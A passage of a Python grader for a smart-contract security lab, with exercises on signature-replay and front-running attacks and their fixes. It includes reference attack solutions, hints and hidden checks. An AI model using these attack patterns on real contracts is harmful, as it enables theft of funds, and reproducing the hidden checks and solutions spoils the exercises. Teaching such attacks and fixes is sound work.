    return ""


def _replay(bank: str, player: str, voucher: dict) -> list:
    args = [voucher["to"], voucher["amount"], voucher["nonce"], voucher["signature"]]
    times = 10 * ETHER // voucher["amount"]
    return [{"to": bank, "function": "redeem", "args": args} for _ in range(times)]


signature_replay = Level(
    f"{LESSON}/signature-replay",
    "Signature replay: one voucher, paid ten times",
    goal="the bank is empty and its 10 ether are yours",
    setup=_bank_setup,
    won=_bank_won,
    vulnerable=lambda: _given("VoucherBank"),
    reference=lambda: _replay,
    arguments=lambda game: (game.bank.address, str(game.player), game.start["voucher"]),
)

replay_attack = exercise(
    f"{LESSON}/signature-replay-attack",
    "Transactions that redeem one voucher until the bank is empty",
    submits="function",
    name="replay",
    hints=[
        "redeem() checks that the signer signed the voucher. Does it remember that it already "
        "paid it?",
        "Send the same redeem(to, amount, nonce, signature) again and again: the bank holds "
        "10 ether, so 10 ether // amount times.",
    ],
)


def _play_replay(t: CheckContext, player, amount=ETHER):
    game = signature_replay.new(t.chain, player=player, amount=amount)
    txs = t.call(*signature_replay.arguments(game))
    t.expect(
        isinstance(txs, list),
        "replay(...) to return a list of transaction dicts",
        f"{type(txs).__name__}",
        "return [{'to': ..., 'function': ..., 'args': [...]}, ...]",
    )
    return game.run(txs)


@replay_attack.check("after your transactions the bank's 10 ether are yours", points=2)
def _(t):
    verdict = _play_replay(t, t.bob)
    t.expect(verdict.won, "the level to be won", verdict.reason + _stopped(verdict.instance))


@replay_attack.check("it works for another player holding another voucher", points=1, hidden=True)
def _(t):
    verdict = _play_replay(t, t.carol, amount=2 * ETHER)
    t.expect(
        verdict.won,
        "the level to be won by carol, holding a voucher for 2 ether",
        verdict.reason + _stopped(verdict.instance),
        "use the voucher's own fields",
    )


replay_fix = exercise(
    f"{LESSON}/signature-replay-fix",
    "The voucher bank, fixed: each voucher pays once",
    contract="FixedBank",
    hints=[
        "Remember each voucher's nonce once it is redeemed (a mapping to bool), and refuse it "
        "the second time. Mark it before you pay.",
        "Keying the record by the signature's bytes is not enough: every ECDSA signature has "
        "a twin (s and n - s) that ecrecover also accepts. Key it by the nonce, or use "
        "OpenZeppelin's ECDSA.recover, which refuses the twin.",
    ],
)


def _redeem(t: CheckContext, bank, v: dict, who):
    return bank.redeem(v["to"], v["amount"], v["nonce"], v["signature"], sender=who)


@replay_fix.check("a voucher the signer signed pays once", points=2)
def _(t):
    game = _deploy(t, signature_replay)
    v = voucher(game.bank, t.alice, t.carol, 3 * ETHER, 7)
    before = t.chain.balance(t.carol)
    try:
        _redeem(t, game.bank, v, t.dave)
    except sollab.LabError as exc:
        t.expect(False, "dave's redeem() of alice's voucher for carol to succeed", _line(exc))
    got = t.chain.balance(t.carol) - before
    t.expect(got == 3 * ETHER, "carol to be paid the voucher's 3 ether", _eth(got))


@replay_fix.check("a voucher someone else signed, or altered, is refused", points=1)
def _(t):
    game = _deploy(t, signature_replay)
    forged = voucher(game.bank, t.bob, t.bob, ETHER, 1)
    t.expect_revert(
        lambda: _redeem(t, game.bank, forged, t.bob), "a voucher bob signed himself to revert"
    )
    altered = dict(voucher(game.bank, t.alice, t.bob, ETHER, 2), amount=5 * ETHER)
    t.expect_revert(
        lambda: _redeem(t, game.bank, altered, t.bob),
        "alice's 1-ether voucher, redeemed for 5 ether, to revert",
    )


@replay_fix.check("the replay fails: the voucher pays once and the bank keeps the rest", points=2)
def _(t):
    game = _deploy(t, signature_replay)
    verdict = game.run(_replay(*signature_replay.arguments(game)))
    kept = t.chain.balance(game.bank)
    t.expect(
        not verdict.won and kept == 9 * ETHER,
        "the bank to pay bob's 1-ether voucher once and keep 9 ether",
        f"it holds {_eth(kept)}",
        "remember which vouchers were redeemed",
    )


@replay_fix.check("the signature's twin cannot be redeemed again", points=1, hidden=True)
def _(t):
    game = _deploy(t, signature_replay)
    v = game.start["voucher"]
    _redeem(t, game.bank, v, t.bob)
    twin = dict(v, signature=_malleated(v["signature"]))
    t.expect_revert(
        lambda: _redeem(t, game.bank, twin, t.bob),
        "the same voucher with its signature's twin (s replaced by n - s) to revert",
        "key what you remember by the nonce, not by the signature's bytes",
    )


# --- level 8: front-running -------------------------------------------------------------------

ANSWER = "correct horse battery staple"


def _keccak(data: bytes) -> bytes:
    from eth_utils import keccak

    return keccak(data)


def _calldata(signature: str, types: list[str], values: list) -> str:
    from eth_abi import encode

    return "0x" + (_keccak(signature.encode())[:4] + encode(types, values)).hex()


def commitment(solver: str, answer: str) -> bytes:
    """keccak256(abi.encodePacked(solver, answer)), as the fixed bounty expects it."""
    return _keccak(bytes.fromhex(str(solver)[2:]) + answer.encode())


def _alices_transactions(game: Instance) -> list[dict]:
    """What alice sends, in order: solve(answer), or commit then reveal on a commit-reveal
    bounty."""
    to = game.bounty.address
    if "commit" in game.bounty.functions:
        return [
            {"to": to, "data": _commit_data(game.chain.alice, ANSWER)},
            {"to": to, "data": _reveal_data(ANSWER)},
        ]
    return [{"to": to, "data": _calldata("solve(string)", ["string"], [ANSWER])}]


def _mempool(game: Instance, attack) -> None:
    """For each transaction alice sends: the player sees it waiting, their transactions are mined
    first (they pay more gas), then alice's — which still goes in if theirs fail."""
    for pending in _alices_transactions(game):
        try:
            game.send(attack(game.bounty.address, str(game.player), dict(pending)))
        except AttackError:
            raise
        except sollab.LabError as exc:
            game.error = _line(exc)
        data = bytes.fromhex(pending["data"][2:])
        with contextlib.suppress(sollab.LabError):  # it fails if somebody was faster
            game.chain.send(pending["to"], 0, data=data, sender=game.chain.alice)


def _bounty_setup(chain, player, artifact, funds=10 * ETHER):
    bounty = chain.deploy(artifact, _keccak(ANSWER.encode()), sender=chain.alice)
    chain.send(bounty, funds, sender=chain.alice)
    return {"bounty": bounty, "start": {"funds": funds}}


def _bounty_won(game: Instance) -> str:
    if game.gained() < game.start["funds"] - GAS_ALLOWANCE:
        return f"the bounty's {_eth(game.start['funds'])} did not reach your account"
    return ""


def _copy(bounty: str, player: str, pending: dict) -> list:
    return [{"to": pending["to"], "data": pending["data"]}]


front_running = Level(
    f"{LESSON}/front-running",
    "Front-running: win the bounty alice solved",
    goal="the bounty's 10 ether are yours, though alice found the answer",
    setup=_bounty_setup,
    won=_bounty_won,
    vulnerable=lambda: _given("Bounty"),
    reference=lambda: _copy,
    play_function=_mempool,
)

front_run_attack = exercise(
    f"{LESSON}/front-running-attack",
    "Transactions that get in before alice's",
    submits="function",
    name="front_run",
    hints=[
        "Everything in a pending transaction is public: its calldata contains alice's answer.",
        "You need not even decode it: send a transaction with the same 'to' and 'data'. Yours "
        "is mined first, so the bounty pays you.",
    ],
)


def _play_front_run(t: CheckContext, player):
    return front_running.play(lambda *args: t.call(*args), t.chain, player=player)


@front_run_attack.check("your transactions win the bounty before alice's", points=2)
def _(t):
    verdict = _play_front_run(t, t.bob)
    t.expect(verdict.won, "the level to be won", verdict.reason + _stopped(verdict.instance))


@front_run_attack.check("it works for another player", points=1, hidden=True)
def _(t):
    verdict = _play_front_run(t, t.carol)
    t.expect(verdict.won, "the level to be won with carol as the player", verdict.reason)


front_run_fix = exercise(
    f"{LESSON}/front-running-fix",
    "The bounty, fixed with commit-reveal",
    contract="FixedBounty",
    hints=[
        "Two steps. commit(bytes32) stores keccak256(abi.encodePacked(msg.sender, answer)) for "
        "msg.sender; reveal(string answer) pays if the caller's commitment matches and the "
        "answer is right.",
        "Putting msg.sender into the commitment is what stops the copy: a front-runner who "
        "copies alice's commitment, or her reveal, matches no commitment of his own.",
    ],
)


def _send_as(t: CheckContext, game: Instance, who, data: str):
    return t.chain.send(game.bounty, 0, data=bytes.fromhex(data[2:]), sender=who)


def _commit_data(who, answer: str) -> str:
    return _calldata("commit(bytes32)", ["bytes32"], [commitment(who, answer)])


def _reveal_data(answer: str) -> str:
    return _calldata("reveal(string)", ["string"], [answer])


def _step(t: CheckContext, game: Instance, who, data: str, what: str):
    """One of a solver's transactions that must go through, or a failed check naming it."""
    try:
        return _send_as(t, game, who, data)
    except sollab.LabError as exc:
        t.expect(False, f"{who.name}'s {what} to succeed", _line(exc))


def _commit(t, game, who, answer):
    return _step(t, game, who, _commit_data(who, answer), f"commit(commitment of {answer!r})")


def _reveal(t, game, who, answer):
    return _step(t, game, who, _reveal_data(answer), f"reveal({answer!r})")


@front_run_fix.check("a solver who commits, then reveals the answer, is paid", points=2)
def _(t):
    game = _deploy(t, front_running)
    before = t.chain.balance(t.carol)
    gas = _commit(t, game, t.carol, ANSWER).gas_used + _reveal(t, game, t.carol, ANSWER).gas_used
    got = t.chain.balance(t.carol) - before + gas * 10**9
    t.expect(got == 10 * ETHER, "carol to be paid the bounty's 10 ether", _eth(got))


@front_run_fix.check("a wrong answer, or a reveal without a commitment, is refused", points=1)
def _(t):
    game = _deploy(t, front_running)
    _commit(t, game, t.carol, "wrong")
    t.expect_revert(
        lambda: _send_as(t, game, t.carol, _reveal_data("wrong")), "reveal('wrong') to revert"
    )
    t.expect_revert(
        lambda: _send_as(t, game, t.dave, _reveal_data(ANSWER)),
        "reveal(answer) by dave, who committed nothing, to revert",
    )


@front_run_fix.check("the front-runner gets nothing: alice is paid", points=2)
def _(t):
    game = _deploy(t, front_running)
    before = t.chain.balance(t.alice)
    verdict = game.run(front_running.reference())
    got = t.chain.balance(t.alice) - before
    t.expect(
        not verdict.won and got > 9 * ETHER,
        "alice to win her own bounty when bob copies each of her transactions first",
        f"alice gained {_eth(got)}; " + ("bob won the bounty" if verdict.won else verdict.reason),
        "put msg.sender into the commitment",
    )


@front_run_fix.check("once someone has won, later reveals are refused", points=1, hidden=True)
def _(t):
    game = _deploy(t, front_running)
    _commit(t, game, t.carol, ANSWER)
    _commit(t, game, t.dave, ANSWER)
    _reveal(t, game, t.carol, ANSWER)
    t.chain.send(game.bounty, ETHER, sender=t.frank)  # a late donation
    t.expect_revert(
        lambda: _send_as(t, game, t.dave, _reveal_data(ANSWER)),
        "dave's reveal after carol won to revert",
    )
